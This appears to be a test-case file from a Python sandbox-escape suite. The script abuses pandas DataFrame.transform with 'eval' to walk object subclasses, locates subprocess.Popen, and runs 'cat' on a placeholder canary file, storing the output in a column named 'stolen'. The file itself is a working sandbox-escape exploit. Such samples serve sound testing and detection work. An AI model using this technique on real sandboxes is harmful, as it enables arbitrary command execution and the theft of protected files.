# class: subclass_walk
# technique: [DataFrame.transform][0](**{'func': 'eval'}) with list.append side effects: the walk result leaves the expression before transform complains
# goal: exec
import numpy as np
import pandas as pd

u = "_" * 2
frame = pd.DataFrame({"x": np.arange(2)})
box = []
for expr, names in (("@box.append(@o[0]." + u + "subclasses" + u + "())", {"o": [object]}),):
    names["box"] = box
    try:
        [frame.transform][0](**{"func": "eval", "expr": expr, "local_dict": names})
    except ValueError:
        pass
popen_cls = [c for c in box[0] if str(c).endswith("Popen'>")][0]
out = popen_cls(["cat", "{{CANARY_FILE}}"], stdout=-1).communicate()[0]
df = pd.DataFrame({"stolen": [out.decode()]})
